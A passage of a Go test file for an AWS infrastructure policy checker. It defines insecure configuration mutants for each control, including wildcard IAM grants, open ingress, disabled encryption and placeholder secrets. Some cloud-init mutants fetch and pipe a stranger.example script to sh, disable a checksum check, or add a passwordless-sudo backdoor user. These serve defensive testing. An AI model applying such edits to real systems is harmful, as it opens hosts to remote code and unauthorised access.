package controls

import (
	"encoding/base64"
	"fmt"

	"github.com/causeway-iac/causeway/graph"
)

// mutants are at least one for each control.
var mutants = map[int][]mutant{
	1: {set(flowLogType, "prod-network-flows", "logFormat", "${version}"), gone(flowLogType, "prod-network-flows"), set(flowLogType,
		"prod-network-flows", "trafficType", "ACCEPT")},
	2: {unset(logGroupType, "prod-network-flows", "kmsKeyId"),
		set(roleType, "prod-network-flows", "assumeRolePolicy",
			`{"Statement": {"Effect": "Allow", "Principal": {"Service": "vpc-flow-logs.amazonaws.com"}, "Action": "sts:AssumeRole"}}`)},
	3: {adds("aws:ec2/defaultVpc:DefaultVpc", in{})},
	4: {gone(defaultGroupType, "prod-network-default"),
		set(defaultGroupType, "prod-network-default", "egress", list(in{"protocol": "-1", "cidrBlocks": list("0.0.0.0/0")})),
		by("a rule for it", func(s *edit) {
			s.add(ingressType, "mutant", in{"securityGroupId": s.the(defaultGroupType, ""), "ipProtocol": "tcp", "fromPort": 1, "toPort": 1,
				"cidrIpv4": "10.0.0.0/8"})
		})},
	6: {gone(endpointType, "prod-endpoints-ec2"), set(endpointType, "prod-endpoints-ec2", "privateDnsEnabled", false)},
	7: {gone(endpointType, "prod-endpoints-ssmmessages"), gone(endpointType, "prod-endpoints-ec2messages"),
		set(endpointType, endpoint, "privateDnsEnabled", false)},
	8: {adds("aws:ecs/service:Service", in{})},
	9: {unset(endpointType, endpoint, "policy"), policyOf(endpointType, endpoint, anonymous),
		policyOf(endpointType, endpoint,
			`{"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*", `+
				`"Condition": {"StringEqualsIfExists": {"aws:PrincipalAccount": "444455556666"}}}`)},
	10: {by("one subnet", func(s *edit) {
		r := s.the(endpointType, endpoint)
		s.set(endpointType, endpoint, "subnetIds", r.Inputs["subnetIds"].([]any)[:1])
	})},
	11: {unset(endpointType, endpoint, "securityGroupIds"), by("from an address", func(s *edit) {
		g := s.the(endpointType, endpoint).Inputs["securityGroupIds"].([]any)[0]
		s.add(ingressType, "mutant", in{"securityGroupId": g, "ipProtocol": "tcp", "fromPort": 443, "toPort": 443,
			"cidrIpv4": "10.0.0.0/8"})
	}), by("another port", func(s *edit) {
		g := s.the(endpointType, endpoint).Inputs["securityGroupIds"].([]any)[0]
		s.add(ingressType, "mutant", in{"securityGroupId": g, "ipProtocol": "tcp", "fromPort": 80, "toPort": 80,
			"referencedSecurityGroupId": s.the(groupType, "prod-web")})
	})},
	12: {gone(endpointType, "prod-network-s3"), by("one table less", func(s *edit) {
		r := s.the(endpointType, "prod-network-s3")
		s.set(endpointType, r.Name, "routeTableIds", r.Inputs["routeTableIds"].([]any)[1:])
	})},
	13: {set(vpcType, "prod-network", "enableDnsHostnames", false), set(vpcType, "prod-network", "enableDnsSupport", false),
		set(endpointType, "prod-endpoints-secretsmanager", "privateDnsEnabled", false)},
	14: {adds("aws:ec2/vpcEndpointService:VpcEndpointService", in{"acceptanceRequired": false})},
	15: {set(routeType, "peer", "destinationCidrBlock", "10.9.0.0/16").on("made"),
		set(routeType, "peer", "destinationCidrBlock", "0.0.0.0/0").on("made")},
	16: {adds("aws:ec2transitgateway/vpcAttachment:VpcAttachment", in{})},
	17: {set(subnetType, "prod-network-public-a", "mapPublicIpOnLaunch", true)},
	18: {set(subnetType, "prod-network-web-a", "assignIpv6AddressOnCreation", true)},
	19: {by("one zone", func(s *edit) {
		for _, zone := range []string{"a", "b", "c"} {
			s.set(subnetType, "prod-network-data-"+zone, "availabilityZone", "eu-west-1a")
		}
	})},
	20: {publicRoute("prod-network-private-a"), publicRoute("prod-network-data")},
	21: {publicRoute("prod-network-private-b"), by("a server as the way out", func(s *edit) {
		s.set(routeType, natRoute(s, "prod-network-private-a"), "natGatewayId", nil)
		s.set(routeType, natRoute(s, "prod-network-private-a"), "networkInterfaceId", "eni-1")
	})},
	22: {publicRoute("prod-network-data"), by("half of the internet by NAT", func(s *edit) {
		s.add(routeType, "mutant", in{"routeTableId": s.the(routeTableType, "prod-network-data"), "destinationCidrBlock": "128.0.0.0/1",
			"natGatewayId": "nat-1"})
	}), by("IPv6", func(s *edit) {
		s.add(routeType, "mutant", in{"routeTableId": s.the(routeTableType, "prod-network-data"), "destinationIpv6CidrBlock": "::/0",
			"egressOnlyGatewayId": "eigw-1"})
	})},
	23: {gone(tableForSubnetType, "prod-network-web-a"), gone(defaultTableType, "prod-network-default"),
		set(defaultTableType, "prod-network-default", "routes", list(in{"cidrBlock": "0.0.0.0/0", "gatewayId": "igw-1"}))},
	24: {adds(eipType, in{"domain": "vpc"})},
	25: {by("all by one", func(s *edit) {
		s.set(routeType, natRoute(s, "prod-network-private-b"), "natGatewayId", s.the(natType, "prod-network-nat-a").ID)
	}),
		by("a gateway inside", func(s *edit) {
			s.set(natType, "prod-network-nat-a", "subnetId", s.the(subnetType, "prod-network-web-a").ID)
		})},
	26: {set(interfaceType, "interface", "sourceDestCheck", false).on("made")},
	27: {aclRule(in{"protocol": "tcp", "fromPort": 22, "toPort": 22, "cidrBlock": "0.0.0.0/0"}),
		aclRule(in{"protocol": "6", "fromPort": 3000, "toPort": 4000, "ipv6CidrBlock": "::/0"}),
		aclRule(in{"protocol": "-1", "cidrBlock": "0.0.0.0/0"}), by("in two halves", func(s *edit) {
			for i, half := range []string{"0.0.0.0/1", "128.0.0.0/1"} {
				s.add(aclRuleType, fmt.Sprint("mutant", i), in{"networkAclId": s.the(aclType, "prod-network-web"), "ruleAction": "allow",
					"ruleNumber": i + 1, "protocol": "tcp", "fromPort": 22, "toPort": 22, "cidrBlock": half})
			}
		})},
	28: {aclRule(in{"protocol": "tcp", "fromPort": 21, "toPort": 21, "cidrBlock": "0.0.0.0/0"})},
	29: {aclRule(in{"protocol": "-1", "cidrBlock": "0.0.0.0/0"}),
		aclRule(in{"protocol": "tcp", "fromPort": 0, "toPort": 65535, "cidrBlock": "0.0.0.0/0"})},
	30: {unset(aclType, "prod-network-public", "subnetIds")},
	31: {gone(defaultACLType, "prod-network-default"),
		set(defaultACLType, "prod-network-default", "ingress",
			list(in{"protocol": "-1", "ruleNo": 100, "action": "allow", "cidrBlock": "0.0.0.0/0"}))},
	32: {ingressTo("prod-web", port(22)), ingressTo("prod-web", everything), halves("prod-web", 22),
		ingressTo("prod-app", in{"ipProtocol": "tcp", "fromPort": 0, "toPort": 1024, "cidrIpv6": "::/0"}),
		ingressTo("prod-app", in{"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "prefixListId": "pl-0123456789abcdef0"}).undecided()},
	33: {ingressTo("prod-web", port(3389)),
		ingressTo("prod-web", in{"ipProtocol": "udp", "fromPort": 3389, "toPort": 3389, "cidrIpv4": "0.0.0.0/0"})},
	34: {ingressTo(edge, port(80)), halves(edge, 80)},
	35: {ingressTo(edge, port(8443)), ingressTo("prod-web", port(443)), ingressTo("prod-database", everything),
		ingressTo(edge, in{"ipProtocol": "icmp", "fromPort": -1, "toPort": -1, "cidrIpv4": "0.0.0.0/0"})},
	36: {ingressTo("prod-database", port(5433)), ingressTo("prod-web", port(9200))},
	37: {ingressTo("prod-web", in{"ipProtocol": "-1", "cidrIpv4": "10.0.0.0/8"}),
		ingressTo("prod-web", in{"ipProtocol": "tcp", "fromPort": 0, "toPort": 65535, "cidrIpv4": "10.0.0.0/8"})},
	38: {ingressTo("prod-web", in{"ipProtocol": "tcp", "fromPort": 400, "toPort": 500, "cidrIpv4": "10.0.0.0/8"})},
	39: {ingressTo("prod-web", in{"ipProtocol": "tcp", "fromPort": 443, "toPort": 443, "cidrIpv4": "198.18.0.0/15"}),
		ingressTo("prod-web", port(443))},
	40: {set(groupType, "prod-web", "ingress", list(in{"protocol": "tcp", "fromPort": 1, "toPort": 1, "cidrBlocks": list("10.0.0.0/8")}))},
	41: {egressFrom("prod-web", port(443)), egressFrom("prod-app", port(80)), egressFrom("prod-app", everything),
		declaring("443/tcp=198.51.100.0/24", in{"ipProtocol": "tcp", "fromPort": 443, "toPort": 443,
			"cidrIpv4": "198.51.96.0/20"}),
		declaring("587/udp=198.51.100.0/24", in{"ipProtocol": "tcp", "fromPort": 587, "toPort": 587, "cidrIpv4": "198.51.100.0/24"}),
		declaring("587/tcp=internet", in{"ipProtocol": "tcp", "fromPort": 587, "toPort": 587, "cidrIpv4": "0.0.0.0/0"})},
	42: {set(groupType, "prod-web", "description", "Managed by Pulumi"), unset(ingressType, "prod-web-to-internal-443", "description")},
	43: {adds(groupType, in{"description": "mutant"})},
	44: {by("a rule inside", func(s *edit) {
		s.set(groupType, "prod-web", "egress", list(in{"protocol": "tcp", "fromPort": 1, "toPort": 1, "cidrBlocks": list("10.0.0.0/8")}))
	})},
	45: {by("51 rules", func(s *edit) {
		for i := range 51 {
			s.add(ingressType, fmt.Sprint("mutant", i), in{"securityGroupId": s.the(groupType, "prod-web"), "ipProtocol": "tcp",
				"fromPort": i, "toPort": i, "cidrIpv4": "10.0.0.0/8"})
		}
	})},
	46: {set(groupType, "prod-web", "name", "launch-wizard-1")},
	47: {ingressTo("prod-web", in{"ipProtocol": "tcp", "fromPort": 8443, "toPort": 8443, "cidrIpv4": "10.0.0.0/8"}),
		egressFrom("prod-web", port(443)), declaring("443/tcp=198.51.100.0/24",
			in{"ipProtocol": "tcp", "fromPort": 443, "toPort": 443, "cidrIpv4": "10.0.0.0/8"})},
	48: {by("itself", func(s *edit) {
		g := s.the(groupType, "prod-web")
		s.add(ingressType, "mutant", in{"securityGroupId": g, "referencedSecurityGroupId": g, "ipProtocol": "tcp", "fromPort": 1,
			"toPort": 1})
	})},
	49: {adds("aws:rds/securityGroup:SecurityGroup", in{})},
	50: {set(listenerType, https, "protocol", "HTTP"), by("a rule that forwards", func(s *edit) {
		l := s.add(listenerType, "mutant",
			in{"protocol": "HTTP",
				"defaultActions": list(in{"type": "redirect", "redirect": in{"protocol": "HTTPS", "statusCode": "HTTP_301"}})})
		s.add("aws:lb/listenerRule:ListenerRule", "mutant", in{"listenerArn": l, "actions": list(in{"type": "forward"})})
	})},
	51: {set(listenerType, https, "protocol", "HTTP"),
		adds(listenerType, in{"protocol": "HTTP", "defaultActions": list(in{"type": "redirect"})})},
	52: {set(listenerType, https, "sslPolicy", "ELBSecurityPolicy-TLS13-1-0-2021-06"), unset(listenerType, https, "sslPolicy"),
		set(listenerType, https, "sslPolicy", "ELBSecurityPolicy-TLS13-1-2-2021-06"),
		set(listenerType, https, "sslPolicy", graph.Unknown{}).undecided()},
	53: {set(balancerType, edge, "dropInvalidHeaderFields", false)},
	54: {set(balancerType, edge, "accessLogs.enabled", false), unset(balancerType, "prod-internal", "accessLogs")},
	55: {set(balancerType, edge, "connectionLogs.enabled", false)},
	56: {set(balancerType, edge, "enableDeletionProtection", false)},
	57: {set(balancerType, edge, "desyncMitigationMode", "monitor")},
	58: {by("one subnet", func(s *edit) {
		s.set(balancerType, edge, "subnets", s.the(balancerType, edge).Inputs["subnets"].([]any)[:1])
	})},
	59: {gone(webACLForType, edge)},
	60: {set(balancerType, edge, "enableWafFailOpen", true)},
	61: {set(balancerType, "prod-internal", "internal", false)},
	62: {set(balancerType, edge, "enableCrossZoneLoadBalancing", false), unset(balancerType, "balancer", "enableCrossZoneLoadBalancing").
		on("made")},
	63: {by("no listener", func(s *edit) { s.removeAll("aws:lb/listenerRule:ListenerRule"); s.removeAll(listenerType) })},
	64: {set(listenerType, "tls", "protocol", "TCP").on("made")},
	65: {set(balancerType, edge, "xffHeaderProcessingMode", "preserve"), set(balancerType, edge, "preserveHostHeader", false)},
	66: {unset(listenerType, https, responses+"XFrameOptionsHeaderValue"),
		set(listenerType, https, responses+"StrictTransportSecurityHeaderValue", "max-age=60")},
	67: {set(listenerType, https, "defaultActions", list(in{"type": "forward", "targetGroupArn": "arn"})),
		by("a rule for any host", func(s *edit) {
			s.add("aws:lb/listenerRule:ListenerRule", "mutant",
				in{"listenerArn": s.the(listenerType, https), "actions": list(in{"type": "forward"}),
					"conditions": list(in{"pathPattern": in{"values": list("/hidden")}})})
		})},
	68: {set(listenerType, "proxied-edge-https", "mutualAuthentication.mode", "passthrough").on("proxied"),
		set(listenerType, "proxied-edge-https", "mutualAuthentication.mode", "off").on("proxied")},
	69: {gone(validationType, "prod-certificate"), by("not waiting", func(s *edit) {
		r := s.the(listenerType, https)
		r.PropertyDependencies["certificateArn"], r.Dependencies = []string{s.the(certificateType, "prod-certificate").URN}, nil
	})},
	70: {set(targetGroupType, "prod-web", "protocol", "HTTP")},
	71: {set(targetGroupType, "prod-web", "healthCheck.protocol", "HTTP")},
	72: {set(targetGroupType, "prod-web", "healthCheck.matcher", "200-599"), set(targetGroupType, "prod-web", "healthCheck.interval",
		300.0),
		unset(targetGroupType, "prod-web", "healthCheck.path")},
	73: {adds("aws:elb/loadBalancer:LoadBalancer", in{})},
	74: {set(templateType, "prod-web", "metadataOptions.httpTokens", "optional"), unset(templateType, "prod-web", "metadataOptions")},
	75: {set(templateType, "prod-web", "metadataOptions.httpPutResponseHopLimit", 2.0), unset(templateType, "prod-web", "metadataOptions")},
	76: {set(templateType, "prod-web", "networkInterfaces[0].associatePublicIpAddress", "true"),
		by("left to a public subnet", func(s *edit) {
			s.set(templateType, "prod-web", "networkInterfaces", nil)
			s.set(subnetType, "prod-network-web-a", "mapPublicIpOnLaunch", true)
		}), set(instanceType, "server", "associatePublicIpAddress", true).on("made")},
	77: {set(templateType, "prod-web", "blockDeviceMappings[0].ebs.encrypted", "false"),
		unset(templateType, "prod-web", "blockDeviceMappings"), set(instanceType, "server", "rootBlockDevice.encrypted", false).on("made")},
	78: {unset(templateType, "prod-web", "blockDeviceMappings[0].ebs.kmsKeyId")},
	79: {userData("#!/bin/sh\nexport DATABASE_URL=postgres://app:hunter22@db/app"), userData("AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE"),
		userData("-----BEGIN EC PRIVATE KEY-----\nMHc"), userData("PGPASSWORD=correcthorse psql"),
		userData("chpasswd:\n  list: |\n    root:hunter22\n"), userData("echo root:hunter22 | chpasswd"),
		userData("mysql -uroot -phunter22 -h db"),
		userData("write_files:\n- encoding: b64\n  content: " +
			base64.StdEncoding.EncodeToString([]byte("-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA"))),
		set(templateType, "prod-web", "userData", graph.Secret{}).undecided()},
	80: {set(templateType, "prod-web", "keyName", "mine"), into("users:", "\n  - {name: eve, ssh_authorized_keys: [ssh-ed25519 AAAA]}"),
		into("users:", "\n  - {name: eve, sudo: 'ALL=(ALL) NOPASSWD:ALL'}"), into("users:", "\n  - {name: eve, lock_passwd: false}"),
		into("users:", "\n  - {name: eve, groups: [wheel]}"), into("", "#cloud-config\nssh_pwauth: true\n"),
		into("", "#cloud-config\nssh_import_id: [gh:eve]\n"), into("write_files:",
			"\n  - {path: /root/.ssh/authorized_keys, content: ssh-ed25519}"),
		into("write_files:", "\n  - {path: /etc/sudoers.d/x, content: app ALL=ALL}"), into("runcmd:", "\n  - [systemctl, start, sshd]")},
	81: {unset(templateType, "prod-web", "iamInstanceProfile")},
	82: {set(templateType, "prod-web", "monitoring.enabled", false)},
	83: {set(templateType, "prod-web", "ebsOptimized", "false"), by("an old machine", func(s *edit) {
		s.set(templateType, "prod-web", "ebsOptimized", nil)
		s.set(templateType, "prod-web", "instanceType", "m3.large")
	})},
	84: {by("two", func(s *edit) { s.set(templateType, "prod-web", "networkInterfaces", list(in{}, in{})) })},
	85: {set(templateType, "prod-web", "instanceType", "m7i.large"), set(templateType, "prod-web", "instanceType", "m3.medium")},
	86: {set(templateType, "prod-web", "blockDeviceMappings[0].ebs.snapshotId", "snap-0123456789abcdef0"), set(templateType,
		"prod-web", "kernelId", "aki-1"),
		set(templateType, "prod-web", "imageId", "resolve:ssm:/mine/image"), unset(templateType, "prod-web", "imageId"),
		set(templateType, "prod-web", "imageId", graph.Unknown{}).undecided(), userData("#include\nhttps://stranger.example/x"),
		into("runcmd:", "\n  - curl https://stranger.example/x | sh"), into("write_files:",
			"\n  - {path: /etc/hosts, content: 203.0.113.9 app}"),
		into("write_files:", "\n  - {path: /etc/yum.repos.d/x.repo, content: 'baseurl=https://stranger.example/'}"),
		into("write_files:", "\n  - {path: /opt/x, source: {uri: 'https://stranger.example/x'}}"),
		into("", "#cloud-config\npackages: [https://stranger.example/x.rpm]\n"), into("", "#cloud-config\nyum_repos: {x: {}}\n"),
		into("", "#cloud-config\nphone_home: {}\n"), instead("source='s3://prod-", "source='s3://theirs-"),
		instead("whole() { sha256sum --check --status <<<\"$sha256  $1\"; }", "whole() { true; }")},
	87: {set(templateType, "prod-web", "metadataOptions.instanceMetadataTags", "enabled")},
	88: {set(scalingType, "prod-web", "suspendedProcesses", list("ReplaceUnhealthy")), set(scalingType, "prod-web",
		"healthCheckGracePeriod", 86400.0),
		set(scalingType, "prod-web", "healthCheckType", "EC2")},
	89: {by("one subnet", func(s *edit) {
		s.set(scalingType, "prod-web", "vpcZoneIdentifiers", s.the(scalingType, "prod-web").Inputs["vpcZoneIdentifiers"].([]any)[:1])
	})},
	90: {set(scalingType, "spot", "mixedInstancesPolicy.launchTemplate.overrides", list(in{"instanceType": "m7g.large"})).on("made")},
	91: {set(scalingType, "prod-web", "launchConfiguration", "lc"), unset(scalingType, "prod-web", "launchTemplate"),
		adds("aws:ec2/launchConfiguration:LaunchConfiguration", in{})},
	92: {set(scalingType, "prod-web", "tags[0].propagateAtLaunch", false), unset(scalingType, "prod-web", "tags")},
	93: {set(scalingType, "spot", "capacityRebalance", false).on("made")},
	94: {publicRoute("prod-network-private-a")},
	95: {unset(scalingType, "prod-web", "maxInstanceLifetime"), set(scalingType, "prod-web", "maxInstanceLifetime", 31536000.0),
		unset(scalingType, "prod-web", "instanceRefresh")},
	96: {set(roleType, "prod-web", "assumeRolePolicy", `{"Statement": [{"Effect": "Allow", "Principal": {"Service": "ec2.amazonaws.com"},
		"Action": "sts:AssumeRole"}, {"Effect": "Deny", "Principal": "*", "Action": "sts:AssumeRole"}]}`),
		by("no policy", func(s *edit) { s.remove(rolePolicyType, "prod-web") })},
	97: {allow("*", "*"), grant(`{"Effect": "Allow", "NotAction": "iam:*", "Resource": "*"}`),
		grant(`{"Effect": "Allow", "Action": "*:*", "Resource": "arn:aws:*:*:*:*"}`)},
	98: {allow("ec2:*", "arn:aws:ec2:eu-west-1:444455556666:instance/i-1"),
		grant(`{"Effect": "Allow", "NotAction": "iam:*", "Resource": "arn:aws:s3:::one"}`), grant("{}").undecided()},
	99:  {allow("ec2:TerminateInstances", "*"), allow("ssm:GetParameter", "*")},
	100: {allow("iam:CreateAccessKey", "*"), allow("sts:Get*Token", "*"), allow("iam:Create?ccessKey", "arn:aws:iam::444455556666:user/*")},
	101: {allow("s3:Get*", "*"), allow("secretsmanager:GetSecretValue", "arn:aws:secretsmanager:eu-west-1:444455556666:secret:*"),
		allow("ssm:GetParametersByPath", "arn:aws:ssm:*:*:parameter/*")},
	102: {allow("iam:PutRolePolicy", "*"), allow("kms:PutKeyPolicy", "arn:aws:kms:*:*:key/*"), allow("s3:PutBucket*", "arn:aws:s3:::*")},
	103: {unbounded("iam:PassRole", "ec2:RunInstances"), unbounded("iam:CreatePolicyVersion"),
		unbounded("iam:PassRole", "lambda:CreateFunction"), unbounded("sts:Assume*")},
	104: {allow("ec2:TerminateInstances", "*"), allow("ssm:SendCommand", "*")},
	105: {allow("kms:Decrypt", "*"), allow("kms:*", "arn:aws:kms:eu-west-1:444455556666:key/*")},
	106: {allow("iam:PassRole", "arn:aws:iam::444455556666:role/*"), allow("iam:*", "*")},
	107: {allow("s3:*", "arn:aws:s3:::prod-logs/*")},
	108: {trusting(`{"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"}`),
		trusting(`{"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::111122223333:root"}, "Action": "sts:AssumeRole"}`),
		trusting(`{"Effect": "Allow", "Principal": {"Service": ["ec2.amazonaws.com", "lambda.amazonaws.com"]}, ` +
			`"Action": "sts:AssumeRole"}`)},
	109: {trusting(`{"Effect": "Allow", "Principal": {"Service": "monitoring.rds.amazonaws.com"}, "Action": "sts:AssumeRole"}`),
		trusting(`{"Effect": "Allow", "Principal": {"Service": "monitoring.rds.amazonaws.com"}, "Action": "sts:AssumeRole", ` +
			`"Condition": {"ArnLike": {"aws:SourceArn": "arn:aws:rds:*:*:db:*"}}}`)},
	110: {by("administrator", func(s *edit) {
		s.add(attachmentType, "mutant", in{"role": s.the(roleType, "prod-app"), "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})
	}),
		set(roleType, "prod-app", "managedPolicyArns", list("arn:aws:iam::aws:policy/IAMFullAccess"))},
	111: {adds("aws:iam/user:User", in{}), adds("aws:iam/accessKey:AccessKey", in{})},
	112: {set(roleType, "prod-app", "inlinePolicies", list(in{"name": "x", "policy": "{}"}))},
	113: {unset(roleType, "prod-app", "permissionsBoundary"),
		policyOf(policyType, "prod-boundary", `{"Effect": "Allow", "Action": "*", "Resource": "*"}`)},
	114: {set(roleType, "pipeline", "assumeRolePolicy",
		githubTrusting(`"token.actions.githubusercontent.com:aud": "sts.amazonaws.com", "token.actions.githubusercontent.com:sub": `+
			`"repo:causeway-iac/*"`)).on("made"),
		set(roleType, "pipeline", "assumeRolePolicy", githubTrusting(`"token.actions.githubusercontent.com:aud": "sts.amazonaws.com"`)).
			on("made")},

	116: {set(databaseType, db, "publiclyAccessible", true), unset(databaseType, db, "publiclyAccessible"),
		set(memberType, "aurora-database-0", "publiclyAccessible", true).on("aurora")},
	117: {set(databaseType, db, "storageEncrypted", false), unset(clusterType, "aurora-database", "storageEncrypted").on("aurora")},
	118: {unset(databaseType, db, "kmsKeyId"), set(databaseType, db, "kmsKeyId", "alias/aws/rds")},
	119: {set(databaseType, db, "multiAz", false), gone(memberType, "aurora-database-1").on("aurora")},
	120: {set(databaseType, db, "deletionProtection", false)},
	121: {set(databaseType, db, "backupRetentionPeriod", 6.0), unset(databaseType, db, "backupRetentionPeriod")},
	122: {set(databaseType, db, "copyTagsToSnapshot", false)},
	123: {set(databaseType, db, "iamDatabaseAuthenticationEnabled", false)},
	124: {set(databaseType, db, "autoMinorVersionUpgrade", false)},
	125: {set(databaseType, db, "enabledCloudwatchLogsExports", list("upgrade")), unset(databaseType, db, "enabledCloudwatchLogsExports")},
	126: {set(databaseType, db, "monitoringInterval", 0.0), unset(databaseType, db, "monitoringRoleArn")},
	127: {set(databaseType, db, "performanceInsightsEnabled", false)},
	128: {unset(databaseType, db, "performanceInsightsKmsKeyId")},
	129: {set(databaseType, db, "caCertIdentifier", "rds-ca-2019")},
	130: {unset(databaseType, db, "parameterGroupName"), set(databaseType, db, "parameterGroupName", "default.postgres17"),
		parameter("rds.force_ssl", "0"), parameter("rds.force_ssl", nil), set(databaseType, db, "parameterGroupName", "another").
			undecided()},
	131: {set(databaseType, db, "port", 5432.0), unset(databaseType, db, "port")},
	132: {set(databaseType, db, "username", "postgres"), set(clusterType, "aurora-database", "masterUsername", "admin").on("aurora")},
	133: {publicRoute("prod-network-data"), unset(databaseType, db, "dbSubnetGroupName")},
	134: {parameter("log_statement", "none"), parameter("log_min_duration_statement", "-1"),
		parameter("log_min_duration_statement", "ddl")},
	135: {set(databaseType, db, "engineVersion", "11"), set(databaseType, db, "engineLifecycleSupport", "open-source-rds-extended-support"),
		set(databaseType, db, "engine", "oracle-ee").undecided()},
	136: {set(databaseType, db, "password", graph.Secret{}), set(databaseType, db, "manageMasterUserPassword", false),
		unset(databaseType, db, "masterUserSecretKmsKeyId")},
	137: {gone(backupSelectionType, "prod-backup"),
		set(backupSelectionType, "prod-backup", "resources", list("arn:aws:rds:eu-west-1:444455556666:db:another")),
		set(backupSelectionType, "prod-backup", "iamRoleArn", "arn:aws:iam::444455556666:role/another").undecided(),
		by("a vault whose policy denies it", func(s *edit) {
			s.add(vaultPolicyType, "mutant", in{"backupVaultName": s.the(vaultType, "prod-backup").String("name"),
				"policy": `{"Statement": [{"Effect": "Deny", "Principal": "*", "Action": "backup:StartBackupJob", "Resource": "*"}]}`})
		}), by("a lock that takes them for a week", func(s *edit) {
			s.add("aws:backup/vaultLockConfiguration:VaultLockConfiguration", "mutant", in{"maxRetentionDays": 7,
				"backupVaultName": s.the(vaultType, "prod-backup").String("name")})
		})},
	138: {set(databaseType, db, "skipFinalSnapshot", true), set(databaseType, db, "deleteAutomatedBackups", true),
		unset(databaseType, db, "finalSnapshotIdentifier")},
	139: {set(eventsType, "prod-database-events", "sourceIds", list("another")), gone(eventsType, "prod-database-events"),
		set(eventsType, "prod-database-events", "eventCategories", list("creation")),
		set(eventsType, "prod-parameter-events", "enabled", false), gone(eventsType, "aurora-instance-events").on("aurora")},
	140: {unset(databaseType, db, "vpcSecurityGroupIds"),
		by("the default group", func(s *edit) { s.set(databaseType, db, "vpcSecurityGroupIds", list(s.the(defaultGroupType, "").ID)) })},
	141: {set(clusterType, "aurora-database", "enableHttpEndpoint", true).on("aurora"),
		set(clusterType, "aurora-database", "engine", "aurora-mysql").on("aurora")},
	142: {set("aws:rds/proxy:Proxy", "proxy", "requireTls", false).on("made")},
	143: {set("aws:rds/snapshot:Snapshot", "snapshot", "sharedAccounts", list("all")).on("made"),
		unset("aws:rds/globalCluster:GlobalCluster", "global", "storageEncrypted").on("made")},

	144: {set(keyType, "prod-data", "enableKeyRotation", false), set(keyType, "prod-data", "rotationPeriodInDays", 2000.0)},
	145: {policyOf(keyType, "prod-data", `{"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "kms:*", "Resource": "*"}`),
		policyOf(keyType, "prod-data",
			`{"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "kms:*", "Resource": "*", `+
				`"Condition": {"StringNotEquals": {"aws:PrincipalAccount": "1"}}}`)},
	146: {unset(keyType, "prod-data", "policy")},
	147: {set(keyType, "prod-topics", "keyUsage", "SIGN_VERIFY"), set(keyType, "prod-data", "isEnabled", false)},
	148: {set(keyType, "prod-data", "deletionWindowInDays", 7.0),
		by("not protected", func(s *edit) { s.the(keyType, "prod-data").Protect = false })},
	149: {set(keyType, "prod-data", "bypassPolicyLockoutSafetyCheck", true)},
	150: {unset(keyType, "prod-data", "description")},
	151: {set(keyType, "prod-data", "multiRegion", true)},
	152: {policyOf(keyType, "prod-logs",
		`{"Effect": "Allow", "Principal": {"Service": "logs.eu-west-1.amazonaws.com"}, "Action": "kms:Decrypt", "Resource": "*"}`)},
	153: {unset(secretType, "secret", "kmsKeyId").on("made"), set(secretType, "secret", "kmsKeyId", "alias/aws/secretsmanager").on("made")},
	154: {gone(rotationType, "secret").on("made")},
	155: {set(rotationType, "secret", "rotationRules.automaticallyAfterDays", 365.0).on("made")},
	157: {set(secretRuleType, "secret", "blockPublicPolicy", false).on("made"), policyOf(secretRuleType, "secret", anonymous).on("made"),
		policyOf(secretType, "secret", anonymous).on("made")},
	158: {unset(secretType, "secret", "description").on("made")},
	159: {by("a key in a policy", func(s *edit) {
		s.add(rolePolicyType, "mutant",
			in{"policy": `{"Statement": [{"Sid": "AKIAIOSFODNN7EXAMPLE", "Effect": "Allow", "Action": "s3:GetObject", "Resource": "*"}]}`})
	}), set(targetGroupType, "prod-web", "tags", in{"db": "mysql://root:hunter2@db/app"}),
		set(secretValueType, "secret", "secretString", "hunter2").on("made"), set(secretType, "secret", "recoveryWindowInDays", 0.0).
			on("made"), set(secretValueType, "secret", "secretString", graph.Unknown{}).on("made").undecided()},
	160: {gone("aws:s3/bucketPublicAccessBlock:BucketPublicAccessBlock", "prod-logs"),
		set("aws:s3/bucketPublicAccessBlock:BucketPublicAccessBlock", "prod-logs", "restrictPublicBuckets", false)},
	161: {gone(sse, "prod-logs")},
	162: {set(sse, "prod-releases", "rules[0].applyServerSideEncryptionByDefault.sseAlgorithm", "AES256"),
		unset(sse, "prod-releases", "rules[0].applyServerSideEncryptionByDefault.kmsMasterKeyId")},
	163: {gone(bucketRules, "prod-releases"),
		policyOf(bucketRules, "prod-releases",
			`{"Effect": "Deny", "Principal": {"AWS": "*"}, "Action": "s3:*", "Resource": "arn:aws:s3:::prod-releases/*", `+
				`"Condition": {"Bool": {"aws:SecureTransport": "false"}}}`),
		policyOf(bucketRules, "prod-releases",
			`{"Effect": "Deny", "Principal": {"AWS": "*"}, "Action": "s3:*", "Resource": ["arn:aws:s3:::b", "arn:aws:s3:::b/*"], `+
				`"Condition": {"Bool": {"aws:SecureTransport": "false"}, "StringEquals": {"aws:PrincipalAccount": "1"}}}`)},
	164: {set("aws:s3/bucketVersioningV2:BucketVersioningV2", "prod-releases", "versioningConfiguration.status", "Suspended")},
	165: {gone("aws:s3/bucketLoggingV2:BucketLoggingV2", "prod-releases")},
	166: {set("aws:s3/bucketOwnershipControls:BucketOwnershipControls", "prod-logs", "rule.objectOwnership", "ObjectWriter"),
		by("an ACL", func(s *edit) {
			s.add("aws:s3/bucketAclV2:BucketAclV2", "mutant",
				in{"bucket": s.the("aws:s3/bucketV2:BucketV2", "prod-logs"), "acl": "public-read"})
		})},
	167: {set("aws:s3/bucketLifecycleConfigurationV2:BucketLifecycleConfigurationV2", "prod-logs", "rules[1].expiration.days", 1.0),
		gone(lifecycle, "prod-logs"), set(lifecycle, "prod-releases", "rules", list(in{"status": "Disabled"}))},
	168: {unset(lifecycle, "prod-logs", "rules[0].abortIncompleteMultipartUpload")},
	169: {policyOf(bucketRules, "prod-releases", anonymous),
		policyOf(bucketRules, "prod-releases",
			`{"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::999999999999:root"}, "Action": "s3:GetObject", "Resource": "*"}`),
		policyOf(bucketRules, "prod-releases",
